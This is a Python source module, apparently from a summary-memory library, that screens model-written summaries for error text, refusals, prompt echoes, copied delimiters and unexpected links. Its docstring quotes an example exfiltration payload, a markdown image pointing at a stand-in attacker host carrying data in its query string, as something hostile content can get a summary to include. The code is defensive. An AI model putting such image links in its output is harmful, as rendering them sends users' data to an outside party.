"""What a summary's text must not be: an error, an echo of the prompt, a way out for data.

Validation (:func:`~summem.summarizers.base.validate_summary`) checks sizes; these checks read
the text. A provider may answer 200 with its error as the content ("Error generating summary:
429 ..."), a small model may repeat its instructions, and a summary of hostile content may
carry a markdown image whose URL leaks data when a client renders it
(``![x](https://evil.example/?d=...)``). None of these is ever committed.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from summem._message_checks import load_json

__all__ = [
    "ECHO_SHARE",
    "ECHO_SHINGLE",
    "copied_delimiters",
    "echo_share",
    "error_shape",
    "foreign_links",
    "placeholder_only",
]

ECHO_SHINGLE = 4
"""Words per shingle when comparing a reply with the prompt's instructions."""
ECHO_SHARE = 0.5
"""A reply whose shingles are at least this share of the instructions' is an echo."""

_WORD = re.compile(r"[^\W_]+", re.UNICODE)
_ERROR_START = re.compile(
    r"^\W{0,3}(?:error\b|exception\b|traceback\b|fatal\b|failed to\b|failure\b|"
    r"internal server error|service unavailable|bad gateway|gateway time-?out|"
    r"rate limit|too many requests|unauthori[sz]ed\b|forbidden\b|request failed|"
    r"an error (?:has )?occurred|http(?:/\d(?:\.\d)?)?\s*[45]\d\d\b|"
    r"status(?: code)?:?\s*[45]\d\d\b|"
    r"[45]\d\d\s+(?:too many|internal|bad|service|gateway|unauthori|forbidden|not found))",
    re.IGNORECASE,
)
_REFUSAL_START = re.compile(
    r"^\W{0,3}(?:i'?m sorry|i am sorry|i apologi[sz]e|as an ai\b|"
    r"i (?:can(?:'|no)?t|am unable to|won'?t) (?:help|assist|provide|summari[sz]e|do))",
    re.IGNORECASE,
)
_MARKDOWN_TARGET = re.compile(r"(!?)\[[^\]\n]*\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.IGNORECASE)


def error_shape(text: str) -> str | None:
    """Why ``text`` looks like an error or a refusal rather than a summary, or ``None``."""
    stripped = text.strip()
    low = stripped[:200].lower()
    if low.startswith(("<!doctype", "<html", "<?xml")):
        return "it is an HTML or XML document, not a summary"
    if stripped.startswith("{"):
        try:
            data = load_json(stripped)
        except ValueError:
            data = None
        if isinstance(data, dict) and ("error" in data or "detail" in data):
            return "it is a JSON error object, not a summary"
    first = next((line for line in stripped.splitlines() if line.strip()), "")
    if _ERROR_START.match(first):
        return "it reads as an error message, not a summary"
    if _REFUSAL_START.match(first) and len(stripped.split()) < 60:
        return "it reads as a refusal, not a summary"
    return None


def copied_delimiters(text: str) -> list[str]:
    """The shipped prompts' block tags (``<transcript>``...) that ``text`` holds intact.

    Rendering neutralizes them in everything the prompt carries (a backslash after ``<``), so a
    reply holding one intact copied the prompt's scaffolding (a small model pasting back its
    ``<previous_summary>`` block, placeholder text and all). Only these tags are checked: a
    custom prompt may ask for a reply wrapped in tags of its own.
    """
    from summem._delimiters import DEFAULT_DELIMITERS

    lowered = text.lower()
    return [d for d in DEFAULT_DELIMITERS if d in lowered]


def echo_share(text: str, instructions: str, *, n: int = ECHO_SHINGLE) -> float:
    """How much of ``text`` repeats ``instructions``: the share of its word ``n``-grams there.

    A summary shares a few phrases with any prompt at most; a model that answers with its
    rules ("1. Integrate the previous summary...", "Write ONE updated summary") shares most.
    Texts shorter than ``n`` words give 0.
    """
    words = [w.lower() for w in _WORD.findall(text)]
    if len(words) < n:
        return 0.0
    source = [w.lower() for w in _WORD.findall(instructions)]
    known = {tuple(source[i : i + n]) for i in range(len(source) - n + 1)}
    shingles = [tuple(words[i : i + n]) for i in range(len(words) - n + 1)]
    return sum(s in known for s in shingles) / len(shingles)


def placeholder_only(text: str) -> bool:
    """Whether ``text`` is only what summem writes in place of an empty placeholder.

    A small model may answer with the ``(none)`` that stood for an empty field of its prompt,
    or with "(none yet: this is the first summary)": words, but none from the conversation.
    """
    from summem.prompts import NO_PREVIOUS_SUMMARY, NOTHING_GIVEN  # on use: it brings in yaml

    words = [w.lower() for w in _WORD.findall(text)]
    known = {w.lower() for w in _WORD.findall(NO_PREVIOUS_SUMMARY + " " + NOTHING_GIVEN)}
    return bool(words) and all(w in known for w in words)


def foreign_links(text: str, sources: Iterable[str]) -> list[str]:
    """Markdown images, and links, in ``text`` whose target appears in none of ``sources``.

    Every markdown image counts (a client fetches it when it renders the summary, which is how
    content leaks); a link counts when its URL was not in what the summary stands for.
    """
    corpus = "\n".join(sources)
    found: list[str] = []
    for bang, target in _MARKDOWN_TARGET.findall(text):
        if bang or target not in corpus:
            found.append(("image " if bang else "link ") + target[:120])
    for target in _AUTOLINK.findall(text):
        if target not in corpus:
            found.append("link " + target[:120])
    return found
